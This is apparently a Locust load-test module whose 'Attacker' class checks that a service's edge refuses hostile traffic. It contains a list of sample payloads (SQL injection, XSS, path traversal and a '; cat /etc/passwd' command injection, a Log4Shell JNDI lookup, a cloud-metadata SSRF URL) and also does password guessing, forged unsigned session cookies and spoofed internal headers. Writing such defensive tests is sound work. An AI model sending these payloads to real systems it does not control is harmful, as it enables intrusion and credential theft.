"""Somebody who came for something else; off unless asked for.  [I/O]

For an attacker the edge has done well when it *refuses*: 4xx, a reset, silence.
So these requests succeed when they are turned away and fail when they are let
in or break something.  Attackers call from addresses of their own (127.66.n.1):
a ban of theirs must not hit a phone.
"""

import random
from collections.abc import Callable
from typing import Any

from locust import constant, task

from loadtest.phone import FEED, LOGIN, CityPhone

# One of each family that a first rule set has to know; harmless wherever it is let in.
PAYLOADS = (
    "1' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM accounts",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://198.51.100.1/a}",
    "http://169.254.169.254/latest/meta-data/",
)
PAUSE_S = 0.05


class Attacker(CityPhone):
    """Injects, guesses and knocks, without pausing for thought."""

    wait_time: Callable[..., float] = constant(PAUSE_S)

    def source(self) -> str:
        """Not a city's address."""
        return f"127.66.{self.number % 250 + 1}.1"

    def on_start(self) -> None:
        """Nothing to introduce."""
        self.dice = random.Random(-self.number)

    @task(4)
    def inject(self) -> None:
        """Hide something in a query."""
        payload = self.dice.choice(PAYLOADS)
        self._expect_refusal("GET", FEED, "attack: injection", params={"q": payload})

    @task(2)
    def guess(self) -> None:
        """Try a password."""
        fields = {"username": "ada", "password": f"guess-{self.dice.randrange(10_000)}"}
        self._expect_refusal("POST", LOGIN, "attack: password", json=fields)

    @task(2)
    def forge(self) -> None:
        """Pretend to be logged in."""
        cookie = f"edge_session=eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.{self.dice.randrange(10_000)}"
        self._expect_refusal("GET", FEED, "attack: forged cookie", headers={"Cookie": cookie})

    @task(1)
    def spoof(self) -> None:
        """Pretend to be inside."""
        headers = {"edge-account": "1", "x-forwarded-for": "127.0.0.1"}
        self._expect_refusal("GET", FEED, "attack: spoofed headers", headers=headers)

    def _expect_refusal(self, method: str, path: str, name: str, **arguments: Any) -> None:
        with self.client.request(method, path, name=name, catch_response=True, **arguments) as reply:
            # 0: the connection was refused or reset, which is a refusal too.
            if reply.status_code == 0 or 400 <= reply.status_code < 500:
                reply.success()
            else:
                reply.failure(f"let in with {reply.status_code}")
